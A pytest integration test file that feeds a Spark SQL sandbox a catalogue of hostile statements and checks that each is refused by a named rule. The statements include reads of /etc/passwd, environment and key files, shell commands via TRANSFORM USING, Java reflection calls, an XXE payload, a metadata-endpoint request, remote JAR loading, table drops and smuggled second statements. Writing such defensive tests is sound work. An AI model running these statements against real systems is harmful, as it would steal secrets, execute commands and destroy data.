"""Statements that read keys, run programs or change tables on a plain Spark: each is refused, by a rule that says why."""

from pathlib import Path

import pytest
from deltalake import DeltaTable

from workers.adapters.sandbox.engine import SparkSandbox
from workers.ports import StatementRefused

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="session")]

#: Those that sqlglot and a look at the first word take for plain selects or miss; HOME is replaced by the home's path.
SEVEN = [
    ("sql.statement_class", "SELECT TRANSFORM (c_name) USING 'cat HOME/keys/secret.txt' AS (line) FROM tpch.customer"),
    ("sql.relation", "SELECT * FROM text.`HOME/keys/secret.txt`"),
    ("sql.relation", "SELECT * FROM IDENTIFIER('text.`HOME/keys/secret.txt`')"),
    ("sql.function", "SELECT java_method('java.nio.file.Files', 'readString', 'HOME/keys/secret.txt')"),
    ("sql.statement_class", "EXECUTE IMMEDIATE 'SELECT * FROM text.`HOME/keys/secret.txt`'"),
    ("sql.statement_class", "BEGIN SELECT 1; DROP TABLE tpch.nation; END"),
    ("sql.statement_class", "CREATE TABLE tpch.stolen USING text LOCATION 'HOME/keys'"),
]

PATHS = [
    ("sql.relation", "SELECT * FROM delta.`HOME/tables/agent_messages`"),
    ("sql.relation", "SELECT * FROM DELTA.`HOME/tables/agent_messages`"),
    ("sql.relation", "SELECT * FROM delta.`file:HOME/tables/agent_messages`"),
    ("sql.relation", "SELECT * FROM parquet.`HOME/warehouse/tpch/nation`"),
    ("sql.relation", "SELECT * FROM csv.`/etc/passwd`"),
    ("sql.relation", "SELECT * FROM json.`/proc/self/environ`"),
    ("sql.relation", "SELECT * FROM binaryFile.`HOME/keys`"),
    ("sql.relation", "SELECT * FROM `HOME/keys/secret.txt`"),
    ("sql.relation", "SELECT * FROM spark_catalog.delta.`HOME/tables/agent_messages`"),
    ("sql.relation", "SELECT n_name FROM tpch.nation WHERE n_name IN (SELECT value FROM text.`/etc/passwd`)"),
    ("sql.relation", "SELECT (SELECT max(value) FROM text.`/etc/passwd`) AS line"),
    ("sql.relation", "SELECT 1 WHERE EXISTS (SELECT 1 FROM text.`/etc/passwd`)"),
    ("sql.relation", "WITH x AS (SELECT * FROM text.`/etc/passwd`) SELECT * FROM x"),
    ("sql.relation", "WITH a AS (WITH b AS (SELECT * FROM text.`/etc/passwd`) SELECT * FROM b) SELECT * FROM a"),
    ("sql.relation", "SELECT * FROM tpch.nation UNION ALL SELECT * FROM text.`/etc/passwd`"),
    ("sql.relation", "SELECT * FROM tpch.nation JOIN LATERAL (SELECT * FROM text.`/etc/passwd`) ON true"),
    ("sql.relation", "SELECT n_name FROM tpch.nation ORDER BY (SELECT max(value) FROM text.`/etc/passwd`)"),
    ("sql.relation", "SELECT sum(n_nationkey) FILTER (WHERE (SELECT true FROM text.`/etc/passwd`)) FROM tpch.nation"),
    ("sql.relation", "SELECT n_name FROM tpch.nation GROUP BY n_name HAVING (SELECT true FROM text.`/etc/passwd`)"),
    ("sql.relation", "SELECT CASE WHEN (SELECT true FROM text.`/etc/passwd`) THEN 1 END"),
    ("sql.relation", "SELECT * FROM tpch.nation n JOIN tpch.region r ON (SELECT true FROM text.`/etc/passwd`)"),
    ("sql.relation", "SELECT * FROM (VALUES ((SELECT max(value) FROM text.`/etc/passwd`))) AS t(a)"),
    ("sql.relation", "SELECT * FROM IDENTIFIER('text' || '.`/etc/passwd`')"),
    ("sql.relation", "TABLE text.`/etc/passwd`"),
    ("sql.relation", "FROM text.`/etc/passwd` SELECT *"),
    ("sql.relation", "FROM text.`/etc/passwd` |> SELECT *"),
    ("sql.relation", "SELECT * FROM tpch.`nation@v0`"),
    ("sql.relation", "SELECT * FROM tpch.`../../tables/agent_messages`"),
    ("sql.relation", "SELECT * FROM tables.agent_messages"),
    ("sql.relation", "SELECT * FROM spark_catalog.tpch.nation"),
    ("sql.relation", "SELECT * FROM information_schema.tables"),
    ("sql.relation", "SELECT * FROM global_temp.nation"),
    ("sql.relation", "SELECT * FROM system.session.nation"),
    ("sql.relation", "SELECT * FROM tpch.nation VERSION AS OF 0"),
    ("sql.relation", "SELECT * FROM tpch.nation TIMESTAMP AS OF '2020-01-01'"),
    ("sql.relation", "SELECT * FROM STREAM(tpch.nation)"),
    ("sql.relation", "SELECT * FROM tpch.nation WITH ('readChangeFeed' = 'true')"),
    ("sql.relation", "SELECT * FROM range(1000000000000)"),
    ("sql.relation", "SELECT * FROM TABLE(range(3))"),
    ("sql.relation", "SELECT * FROM read_files('/etc/passwd')"),
    ("sql.relation", "SELECT * FROM table_changes('tpch.nation', 0)"),
    ("sql.relation", "SELECT * FROM explode(array(1, 2))"),
]

FUNCTIONS = [
    ("sql.function", "SELECT reflect('java.lang.Runtime', 'getRuntime')"),
    ("sql.function", "SELECT try_reflect('java.lang.System', 'getenv', 'PATH')"),
    ("sql.function", "SELECT JAVA_METHOD('java.lang.System', 'exit', 1)"),
    ("sql.function", "SELECT `java_method`('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT `Java_Method` ('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT system.builtin.java_method('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT /**/ java_method /* x */ ('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT max(java_method('java.lang.System', 'getProperty', 'user.dir')) FROM tpch.nation"),
    ("sql.function", "SELECT n_name FROM tpch.nation ORDER BY reflect('java.lang.Math', 'random')"),
    ("sql.function", "SELECT sum(1) OVER (PARTITION BY reflect('java.lang.Math', 'random')) FROM tpch.nation"),
    (
        "sql.function",
        "SELECT sum(1) OVER w FROM tpch.nation WINDOW w AS (ORDER BY reflect('java.lang.Math', 'random'))",
    ),
    ("sql.function", "SELECT count(*) FROM tpch.nation GROUP BY GROUPING SETS ((reflect('java.lang.Math', 'random')))"),
    ("sql.expression", "SELECT IDENTIFIER('java_method')('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.expression", "SELECT IDENTIFIER('java' || '_method')('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT my_udf(n_name) FROM tpch.nation"),
    ("sql.function", "SELECT tpch.my_udf(n_name) FROM tpch.nation"),
    ("sql.syntax", "SELECT jаva_method('x', 'y')"),  # noqa: RUF001  # a Cyrillic letter: it must not pass for the Latin one
    ("sql.syntax", "SELECT ＳＵＭ(n_nationkey) FROM tpch.nation"),  # noqa: RUF001  # full-width letters
    ("sql.function", "SELECT `jаva_method`('x', 'y')"),  # noqa: RUF001  # the same, quoted
    ("sql.function", "SELECT input_file_name() FROM tpch.nation"),
    ("sql.function", "SELECT from_csv('1', 'a INT', map('mode', 'PERMISSIVE'))"),
    ("sql.function", "SELECT xpath_string('<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>', 'a')"),
    ("sql.function", "SELECT aes_decrypt('x', 'y')"),
    ("sql.function", "SELECT raise_error('x')"),
    ("sql.function", "SELECT ai_query('model', 'prompt')"),
    ("sql.function", "SELECT http_request('http://169.254.169.254/')"),
    ("sql.function", "SELECT secret('scope', 'key')"),
    ("sql.function", "SELECT explode(sequence(1, 1000000000))"),
    ("sql.function", "SELECT repeat('x', 2000000000)"),
    ("sql.function", "SELECT array_repeat(n_name, 2000000000) FROM tpch.nation"),
    ("sql.function", "SELECT rand()"),
    ("sql.function", "SELECT current_timestamp()"),
    ("sql.expression", "SELECT max(x -> x + 1)"),
    ("sql.expression", "SELECT current_user"),
    ("sql.expression", "SELECT current_date"),
    ("sql.function", "SELECT aggregate(array(1), 0, (a, b) -> a + b)"),
]

STATEMENTS = [
    ("target.protected", "CREATE TABLE tpch.copied USING delta AS SELECT * FROM tpch.nation"),
    ("target.protected", "CREATE OR REPLACE TABLE tpch.nation USING delta AS SELECT 1 AS a"),
    ("sql.statement_class", "CREATE TEMPORARY VIEW nation AS SELECT * FROM text.`/etc/passwd`"),
    ("sql.statement_class", "CREATE TEMPORARY VIEW v USING text OPTIONS (path 'HOME/keys/secret.txt')"),
    ("sql.statement_class", "CREATE VIEW tpch.v AS SELECT 1"),
    ("sql.statement_class", "CREATE FUNCTION f AS 'java.lang.Runtime' USING JAR 'http://example.org/x.jar'"),
    ("sql.statement_class", "CREATE TEMPORARY FUNCTION sum() RETURNS INT RETURN 1"),
    ("sql.statement_class", "CREATE SCHEMA stolen LOCATION 'HOME/keys'"),
    ("target.protected", "DROP TABLE tpch.nation"),
    ("target.protected", "dRoP /* x */ TABLE IF EXISTS tpch.nation"),
    ("target.protected", "-- only reading\nDROP TABLE tpch.nation"),
    ("target.protected", "/* SELECT */ DROP TABLE tpch.nation;"),
    ("sql.statement_class", "DROP SCHEMA tpch CASCADE"),
    ("target.protected", "INSERT INTO tpch.nation SELECT * FROM tpch.nation"),
    ("sql.statement_class", "WITH x AS (SELECT * FROM tpch.nation) INSERT INTO tpch.nation SELECT * FROM x"),
    ("target.protected", "FROM tpch.nation INSERT INTO tpch.nation SELECT *"),
    ("sql.statement_class", "FROM tpch.nation INSERT INTO tpch.a SELECT * INSERT INTO tpch.b SELECT *"),
    ("sql.statement_class", "INSERT OVERWRITE DIRECTORY 'HOME/warehouse/x' USING csv SELECT * FROM tpch.nation"),
    ("target.name", "INSERT INTO delta.`HOME/warehouse/tpch/nation` SELECT * FROM tpch.nation"),
    ("target.protected", "DELETE FROM tpch.nation"),
    ("target.protected", "UPDATE tpch.nation SET n_name = 'x'"),
    (
        "target.protected",
        "MERGE INTO tpch.nation t USING tpch.region s ON t.n_regionkey = s.r_regionkey WHEN MATCHED THEN DELETE",
    ),
    ("target.protected", "TRUNCATE TABLE tpch.nation"),
    ("target.protected", "ALTER TABLE tpch.nation ADD COLUMN x INT"),
    ("sql.statement_class", "ALTER TABLE tpch.nation SET LOCATION 'HOME/keys'"),
    ("sql.statement_class", "LOAD DATA INPATH '/etc/passwd' INTO TABLE tpch.nation"),
    ("sql.statement_class", "CALL tpch.clean()"),
    ("sql.statement_class", "VACUUM tpch.nation RETAIN 0 HOURS"),
    ("sql.statement_class", "OPTIMIZE tpch.nation"),
    ("sql.statement_class", "RESTORE TABLE tpch.nation TO VERSION AS OF 0"),
    ("sql.statement_class", "DESCRIBE HISTORY tpch.nation"),
    ("sql.statement_class", "DESCRIBE DETAIL delta.`HOME/tables/agent_messages`"),
    ("sql.statement_class", "CONVERT TO DELTA parquet.`HOME/warehouse/tpch/nation`"),
    ("sql.statement_class", "SET spark.sql.runSQLOnFiles=true"),
    ("sql.statement_class", "SET"),
    ("sql.statement_class", "RESET"),
    ("sql.statement_class", "SET VAR x = 1"),
    ("sql.statement_class", "DECLARE VARIABLE x INT DEFAULT 1"),
    ("sql.statement_class", "ADD JAR 'http://example.org/x.jar'"),
    ("sql.statement_class", "ADD FILE '/etc/passwd'"),
    ("sql.statement_class", "LIST JARS"),
    ("sql.statement_class", "CACHE TABLE x AS SELECT * FROM text.`/etc/passwd`"),
    ("sql.statement_class", "UNCACHE TABLE tpch.nation"),
    ("sql.statement_class", "CLEAR CACHE"),
    ("sql.statement_class", "REFRESH TABLE tpch.nation"),
    ("sql.statement_class", "REFRESH 'HOME/keys'"),
    ("sql.statement_class", "EXPLAIN SELECT * FROM tpch.nation"),
    ("sql.statement_class", "EXPLAIN EXTENDED CREATE TABLE tpch.x AS SELECT 1"),
    ("sql.statement_class", "DESCRIBE tpch.nation"),
    ("sql.statement_class", "SHOW TABLES IN tpch"),
    ("sql.statement_class", "SHOW CREATE TABLE tpch.nation"),
    ("sql.statement_class", "USE results"),
    ("sql.statement_class", "ANALYZE TABLE tpch.nation COMPUTE STATISTICS"),
    ("sql.statement_class", "EXECUTE IMMEDIATE 'DROP TABLE ' || 'tpch.nation'"),
    ("sql.statement_class", "BEGIN DECLARE x INT; SET x = 1; EXECUTE IMMEDIATE 'SELECT 1'; END"),
    ("sql.statement_class", "SELECT * FROM (SELECT TRANSFORM (n_name) USING 'sh -c id' AS (a) FROM tpch.nation)"),
    ("sql.statement_class", "FROM tpch.nation MAP n_name USING 'id' AS a"),
    ("sql.multiple_statements", "SELECT 1; DROP TABLE tpch.nation"),
    ("sql.multiple_statements", "SELECT 1;; SELECT 2"),
    ("sql.multiple_statements", "SELECT ';' AS a; /* ; */ DELETE FROM tpch.nation -- ;"),
]

WRITES = [
    ("target.name", "DELETE FROM delta.`HOME/tables/agent_messages`"),
    ("target.name", "UPDATE delta.`HOME/warehouse/tpch/nation` SET n_name = 'x'"),
    (
        "target.name",
        "MERGE INTO delta.`HOME/tables/agent_messages` t USING tpch.nation s ON true WHEN MATCHED THEN DELETE",
    ),
    ("target.name", "DELETE FROM nation"),
    ("target.name", "DROP TABLE spark_catalog.results.kept"),
    ("target.name", "CREATE TABLE results.`../../keys/x` AS SELECT 1 AS a"),
    ("target.name", "INSERT INTO results.kept WITH ('path' = 'HOME/keys') SELECT 1 AS a"),
    ("target.name", "TRUNCATE TABLE results.`kept@v0`"),
    ("target.schema", "DELETE FROM tables.agent_messages"),
    ("sql.clause", "CREATE TABLE results.stolen LOCATION 'HOME/keys' AS SELECT 1 AS a"),
    ("sql.clause", "CREATE TABLE results.stolen USING csv AS SELECT 1 AS a"),
    ("sql.clause", "CREATE TABLE results.stolen TBLPROPERTIES ('delta.appendOnly' = 'true') AS SELECT 1 AS a"),
    ("sql.clause", "CREATE TABLE results.stolen OPTIONS (path 'HOME/keys') AS SELECT 1 AS a"),
    ("sql.clause", "CREATE TABLE IF NOT EXISTS results.kept AS SELECT 1 AS a"),
    ("sql.clause", "INSERT WITH SCHEMA EVOLUTION INTO results.kept SELECT 1 AS a, 2 AS b"),
    (
        "sql.clause",
        "MERGE WITH SCHEMA EVOLUTION INTO results.kept t USING tpch.nation s ON true WHEN MATCHED THEN UPDATE SET *",
    ),
    ("sql.clause", "ALTER TABLE results.kept ADD COLUMN x INT DEFAULT 1"),
    ("sql.relation", "INSERT INTO results.kept SELECT value FROM text.`HOME/keys/secret.txt`"),
    ("sql.relation", "CREATE TABLE results.stolen AS SELECT * FROM text.`/etc/passwd`"),
    (
        "sql.relation",
        "MERGE INTO results.kept t USING delta.`HOME/tables/agent_messages` s ON true WHEN MATCHED THEN DELETE",
    ),
    ("sql.relation", "DELETE FROM results.kept WHERE a IN (SELECT value FROM text.`/etc/passwd`)"),
    ("sql.function", "UPDATE results.kept SET a = java_method('java.lang.System', 'exit', 1)"),
    ("sql.function", "DELETE FROM results.kept WHERE java_method('java.lang.System', 'exit', 1) = 1"),
    ("sql.function", "INSERT INTO results.kept VALUES (java_method('java.lang.System', 'exit', 1))"),
    ("sql.statement_class", "WITH x AS (SELECT 1 AS a) DELETE FROM results.kept"),
    ("sql.statement_class", "ALTER TABLE results.kept DROP COLUMN a"),
    ("sql.statement_class", "ALTER TABLE results.kept RENAME TO results.other"),
    ("sql.statement_class", "ALTER TABLE results.kept SET TBLPROPERTIES ('delta.appendOnly' = 'true')"),
    ("sql.statement_class", "RESTORE TABLE results.kept TO VERSION AS OF 0"),
    ("sql.statement_class", "CREATE TABLE results.stolen CLONE delta.`HOME/tables/agent_messages`"),
    ("sql.statement_class", "CREATE TABLE results.stolen SHALLOW CLONE tpch.nation"),
    ("sql.statement_class", "CREATE TABLE results.stolen LIKE tpch.nation"),
    ("sql.statement_class", "FROM tpch.nation INSERT INTO results.kept SELECT 1 INSERT INTO results.kept SELECT 2"),
    ("sql.statement_class", "EXECUTE IMMEDIATE 'DELETE FROM results.kept'"),
    ("sql.statement_class", "BEGIN DELETE FROM results.kept; END"),
    ("sql.multiple_statements", "DELETE FROM results.kept WHERE a = 1; DELETE FROM results.kept"),
    ("target.missing", "DELETE FROM results.never"),
]

CLAUSES = [
    ("sql.hint", "SELECT /*+ REPARTITION(100000) */ * FROM tpch.nation"),
    ("sql.hint", "SELECT /*+ BROADCAST(nation) */ * FROM tpch.nation"),
    ("sql.clause", "SELECT * FROM tpch.nation TABLESAMPLE (10 PERCENT)"),
    ("sql.clause", "SELECT * FROM tpch.nation LATERAL VIEW explode(sequence(1, 1000000000)) t AS x"),
    ("sql.clause", "SELECT * FROM tpch.nation DISTRIBUTE BY n_name"),
    ("sql.clause", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r"),
    ("sql.parameter", "SELECT * FROM tpch.nation WHERE n_name = :name"),
    ("sql.parameter", "SELECT * FROM tpch.nation WHERE n_name = ?"),
    ("sql.syntax", "GRANT ALL ON tpch.nation TO everyone"),
    ("sql.syntax", "COPY INTO tpch.nation FROM '/etc/passwd'"),
    ("sql.syntax", "!cat /etc/passwd"),
    ("sql.syntax", "SELECT 1\0; DROP TABLE tpch.nation"),
    ("sql.empty", "  \n "),
    ("sql.too_long", "SELECT 1 -- " + "x" * 100_000),
]

ATTACKS = [*SEVEN, *PATHS, *FUNCTIONS, *STATEMENTS, *WRITES, *CLAUSES]


def state_of(home: Path) -> dict[str, float]:
    """Every file of the lakehouse with the time it was last changed."""
    return {str(file): file.stat().st_mtime for file in (home / "warehouse").rglob("*") if file.is_file()}


@pytest.mark.parametrize(("rule", "sql"), ATTACKS, ids=[sql[:60] for _, sql in ATTACKS])
async def test_it_is_refused_by_its_rule(sandbox: SparkSandbox, home: Path, rule: str, sql: str) -> None:
    before = state_of(home)

    with pytest.raises(StatementRefused) as refused:
        await sandbox.dry_run(sql.replace("HOME", str(home)), None)

    assert refused.value.rule == rule
    assert refused.value.reason
    assert state_of(home) == before


@pytest.mark.parametrize(("rule", "sql"), SEVEN, ids=[sql[:40] for _, sql in SEVEN])
async def test_a_run_refuses_it_as_the_dry_run_does(sandbox: SparkSandbox, home: Path, rule: str, sql: str) -> None:
    before = state_of(home)

    with pytest.raises(StatementRefused) as refused:
        await sandbox.run(sql.replace("HOME", str(home)), "results.stolen", "a grant", 10)

    assert refused.value.rule == rule
    assert state_of(home) == before


async def test_after_all_of_them_no_table_has_changed(home: Path) -> None:
    versions = {folder.name: DeltaTable(str(folder)).version() for folder in (home / "warehouse" / "tpch").iterdir()}

    assert versions == dict.fromkeys(versions, 0)
    assert len(versions) == 8


@pytest.mark.parametrize(
    "deep",
    ["(" * 20_000 + "1" + ")" * 20_000, "1+" * 20_000 + "1 AS a", "NOT " * 10_000 + "true AS a"],
    ids=["brackets", "sums", "nots"],
)
async def test_a_statement_that_overflows_a_stack_harms_nobody(sandbox: SparkSandbox, deep: str) -> None:
    child = sandbox._process.pid

    with pytest.raises(StatementRefused) as refused:
        await sandbox.dry_run(f"SELECT {deep}", None)

    assert refused.value.rule == "sql.too_deep"
    assert (await sandbox.run("SELECT 1 AS a", None, "a grant", 1)).result.rows == ((1,),)
    assert sandbox._process.pid == child


async def test_the_refused_statement_is_named(sandbox: SparkSandbox) -> None:
    said = {}
    for sql in (
        "SHOW TABLES",
        "SET a = 1",
        "VACUUM tpch.nation",
        "CALL f()",
    ):
        with pytest.raises(StatementRefused) as refused:
            await sandbox.dry_run(sql, None)
        said[sql.split()[0].lower()] = refused.value.reason.split()[0]

    assert said == {word: word for word in said}


async def test_variables_are_not_replaced(sandbox: SparkSandbox) -> None:
    done = await sandbox.run("SELECT '${env:PATH}' AS a, '${system:user.dir}' AS b", None, "a grant", 1)

    assert done.result.rows == (("${env:PATH}", "${system:user.dir}"),)
